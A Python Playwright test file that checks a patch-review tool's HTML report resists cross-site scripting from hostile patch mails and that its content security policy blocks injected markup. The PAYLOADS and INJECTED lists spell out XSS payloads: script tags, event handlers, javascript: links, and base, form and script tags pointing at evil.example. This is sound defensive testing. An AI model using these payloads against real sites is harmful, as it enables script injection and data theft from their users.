# SPDX-License-Identifier: GPL-2.0-or-later
"""Hostile mails do nothing in a browser, nor would one that got past the escaping."""

from __future__ import annotations

import pytest
from msgspec.structs import replace
from playwright.sync_api import Page, expect

from patchlint.model.finding import Step
from patchlint.model.location import InFile, Side, Span
from patchlint.report.html.page import render
from tests.browser.conftest import ADDRESS, Visit
from tests.report.made import PATH, at, finding, posting, report

PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror="window.pwned=1">',
    "javascript:window.pwned=1",
    "</style><script>window.pwned=1</script>",
    "</title></script><svg onload=window.pwned=1>",
    "' autofocus onfocus='window.pwned=1' x='",
    "<a href=javascript:window.pwned=1>x</a><iframe srcdoc='<script>'>",
    "<!--<script>--><base href=http://evil.example/><form action=//evil.example>",
    "&lt;script&gt;{{7*7}}${7*7}<%= 7 %>",
    "x" * 3000,
)


def hostile(payload: str) -> str:
    """Return a page with a payload wherever a mail or a rule has a word."""
    series = posting(
        log=f"{payload}\n\ncpu {payload}",
        subject=f"[PATCH {payload[:40]} v3 2/7] {payload}",
        From=f"{payload} <a@example.org>",
        Date=payload,
    )
    (patch,) = series.patches
    change = patch.changes[0]
    hunks = tuple(
        replace(
            h, heading=payload, lines=tuple(replace(x, text=payload) for x in h.lines)
        )
        for h in change.hunks
    )
    changes = (replace(change, new_path=payload, hunks=hunks),)
    message = replace(patch.message, message_id=payload, date=payload)
    patch = replace(patch, changes=changes, message=message)
    series = replace(series, patches=(patch,))
    step = Step(InFile(payload, Side.NEW, Span(7)), payload, payload)
    far = Step(InFile(PATH, Side.OLD, Span(7)), payload, payload)
    made = finding(
        series,
        at(message, "cpu "),
        message=f"{payload}\n {payload}",
        rule=payload,
        suggestion=payload,
        trace=(step, far),
    )
    return render(report(made), (series,))


def is_untouched(page: Page) -> bool:
    return bool(page.evaluate("window.pwned === undefined"))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_that_a_mail_holds_runs(visit: Visit, payload: str) -> None:
    page = visit(hostile(payload), viewport={"width": 360, "height": 700})
    for summary in page.locator(".remark summary").all():
        summary.click()
    page.locator(".remark").hover()

    assert is_untouched(page)
    assert (
        page.locator("img, svg, iframe, base, form, [onerror], [onload]").count() == 0
    )
    assert page.locator("script").count() == page.locator("style").count() == 1
    assert page.locator("a[href^='javascript' i]").count() == 0
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    expect(page.locator("h3")).to_contain_text(payload[:200])
    expect(page.locator("h4")).to_contain_text(payload)


INJECTED = """
<script>window.pwned=1</script>
<script src=http://evil.example/x.js></script>
<script type=module>window.pwned=1</script>
<img src=x onerror='window.pwned=1'>
<img src=http://evil.example/x.png>
<svg onload='window.pwned=1'></svg>
<link rel=stylesheet href=http://evil.example/x.css>
<style>body{background:url(http://evil.example/)}</style>
<iframe src=http://evil.example/></iframe>
<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>
<object data=http://evil.example/></object>
<base href=http://evil.example/>
<a id=bad href='javascript:window.pwned=1'>bad</a>
<form action=http://evil.example/><button id=send>send</button></form>
"""


def test_policy_stops_what_would_get_past_the_escaping(
    visit: Visit, faults: str
) -> None:
    page = visit(faults.replace("<main", f"{INJECTED}<main", 1), is_attacked=True)
    page.locator("#bad").click()
    # A click would wait for the navigation that the policy forbids.
    page.locator("#send").dispatch_event("click")
    page.wait_for_load_state()

    assert is_untouched(page)
    assert page.url.startswith(ADDRESS)
    assert page.locator(".remark").count() > 0
